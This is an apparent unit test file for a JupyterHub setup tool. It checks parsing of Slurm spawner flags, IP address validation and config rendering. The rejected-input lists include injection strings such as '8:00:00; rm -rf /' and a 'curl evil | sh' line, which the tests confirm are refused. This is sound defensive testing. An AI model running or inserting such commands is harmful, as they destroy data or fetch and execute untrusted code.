import {expect} from 'chai'

import {
  batchScript,
  checkHubConnectIp,
  parseExtra,
  parseMemory,
  parsePartition,
  parseRuntime,
} from '../../../src/lib/config/slurm.js'
import {renderHubConfig} from '../../../src/lib/config/hubconfig.js'
import {Layout} from '../../../src/lib/config/layout.js'
import {resolveInitRequest} from '../../../src/lib/setup/init-request.js'
import {thrown, rejection} from '../../helpers/errors.js'
import {testSettings} from '../../helpers/settings.js'

describe('--spawner slurm: the flags', () => {
  it('takes Slurm times and refuses what sbatch --time would not', () => {
    expect(parseRuntime('8:00:00').seconds).to.equal(8 * 3600)
    expect(parseRuntime('90').seconds).to.equal(90 * 60)
    expect(parseRuntime('5:30').seconds).to.equal(5 * 60 + 30)
    expect(parseRuntime('1-00:00:00').seconds).to.equal(86400)
    expect(parseRuntime('2-12').seconds).to.equal(60 * 3600)
    for (const bad of ['8h', '0', '1:60:00', '1-24:00:00', '', 'INFINITE', '8:00:00; rm -rf /', '1:2:3:4']) {
      const error = thrown(() => parseRuntime(bad))
      expect(error.exitCode, bad).to.equal(2)
      expect(error.message).to.include('is not a Slurm time')
      expect(error.fix).to.include('8:00:00')
    }
  })

  it('takes memory with a unit (megabytes without one), refuses anything else', () => {
    expect(parseMemory('2G')).to.deep.equal({memory: '2G', megabytes: 2048})
    expect(parseMemory('512m')).to.deep.equal({memory: '512M', megabytes: 512})
    expect(parseMemory('1000')).to.deep.equal({memory: '1000M', megabytes: 1000})
    for (const bad of ['2GB', '-1G', '0', 'lots', '1.5G'])
      expect(thrown(() => parseMemory(bad)).exitCode, bad).to.equal(2)
  })

  it('takes only #SBATCH lines in --slurm-extra', () => {
    expect(parseExtra(['#SBATCH --account=physics\n#SBATCH --qos=short', '  '])).to.deep.equal([
      '#SBATCH --account=physics',
      '#SBATCH --qos=short',
    ])
    for (const bad of [
      '#SBATCH --account=x\ncurl evil | sh',
      'echo hi',
      '#SBATCH',
      '# SBATCH --qos=x',
      '#SBATCH --x={{cmd}}',
    ])
      expect(thrown(() => parseExtra([bad])).message, bad).to.include('which is not an #SBATCH line')
  })

  it('refuses a partition name that is no name', () => {
    expect(thrown(() => parsePartition('a b')).exitCode).to.equal(2)
    expect(parsePartition('gpu-a100')).to.equal('gpu-a100')
  })

  it('the slurm flags go with --spawner slurm only, which needs a partition', async () => {
    const machine = {cores: 2}
    const base = {domain: ['hub.example.org'], email: 'a@example.org', admin: ['alice']}
    const alone = await rejection(resolveInitRequest({...base, 'slurm-memory': '2G'}, undefined, machine))
    expect(alone.message).to.equal('--slurm-memory goes with --spawner slurm')
    const noPartition = await rejection(resolveInitRequest({...base, spawner: 'slurm'}, undefined, machine))
    expect(noPartition.message).to.equal('--spawner slurm needs --slurm-partition')
    const ok = await resolveInitRequest(
      {...base, spawner: 'slurm', 'slurm-partition': 'batch', 'slurm-gpus': '1'},
      undefined,
      machine,
    )
    expect(ok.slurm).to.deep.include({partition: 'batch', memory: '2G', cpus: 1, runtime: '8:00:00', gpus: 1})
  })
})

describe('--hub-connect-ip', () => {
  const addresses = ['127.0.0.1', '::1', '10.0.0.5', '203.0.113.7']

  it('takes a private address of this machine', () => {
    expect(checkHubConnectIp('10.0.0.5', addresses)).to.deep.equal({
      hubConnectIp: '10.0.0.5',
      connectAddress: '10.0.0.5',
      warnings: [],
    })
  })

  it('refuses a public address, and one that is not this machine', () => {
    expect(thrown(() => checkHubConnectIp('203.0.113.7', addresses)).message).to.include('is a public address')
    expect(thrown(() => checkHubConnectIp('10.9.9.9', addresses)).message).to.include(
      'is not an address of this machine',
    )
  })

  it('refuses 0.0.0.0 on a machine whose only other address is public; warns otherwise', () => {
    const error = thrown(() => checkHubConnectIp('0.0.0.0', ['127.0.0.1', '203.0.113.7']))
    expect(error.exitCode).to.equal(2)
    expect(error.message).to.include('only other address is public (203.0.113.7)')
    const ok = checkHubConnectIp('0.0.0.0', addresses)
    expect(ok.connectAddress).to.equal('10.0.0.5')
    expect(ok.warnings.join()).to.include('the public 203.0.113.7 too')
  })
})

describe('the Slurm spawner in jupyterhub_config.py', () => {
  it('renders the partition, resources, absolute wrapper and extra lines as Python literals', async () => {
    const settings = testSettings({
      spawner: 'slurm',
      slurm: {
        partition: 'batch',
        memory: '2G',
        cpus: 2,
        runtime: '8:00:00',
        gpus: 1,
        extra: ['#SBATCH --account="x"'],
        hubConnectIp: '10.0.0.5',
        connectAddress: '10.0.0.5',
      },
      spawn: {maxConcurrent: 2, timeoutSeconds: 120},
    })
    const text = await renderHubConfig(
      new Layout('/tmp/hubctl-slurm-unit'),
      settings,
      {
        executable: '/opt/jh/bin/jupyterhub',
        version: '6.1.1',
        major: 6,
        minor: 1,
        singleuser: '/opt/jh/bin/jupyterhub-singleuser',
        python: '/opt/jh/bin/python3',
      },
      '/lab',
    )
    expect(text).to.include('c.JupyterHub.spawner_class = "batchspawner.SlurmSpawner"')
    expect(text).to.include('c.JupyterHub.hub_connect_ip = "10.0.0.5"')
    expect(text).to.include('c.SlurmSpawner.req_gres = "gpu:1"')
    expect(text).to.include('c.SlurmSpawner.batchspawner_singleuser_cmd = "/opt/jh/bin/batchspawner-singleuser"')
    expect(text).to.include(`c.SlurmSpawner.batch_script = ${JSON.stringify(batchScript(['#SBATCH --account="x"']))}`)
    // A Slurm server waiting for its turn in the hub's line says so, before its job's pending reason.
    expect(text).to.include('hubctl_hub.spawnqueue.show_place_in_line(_hubctl_queue, batchspawner.SlurmSpawner)\n')
  })
})
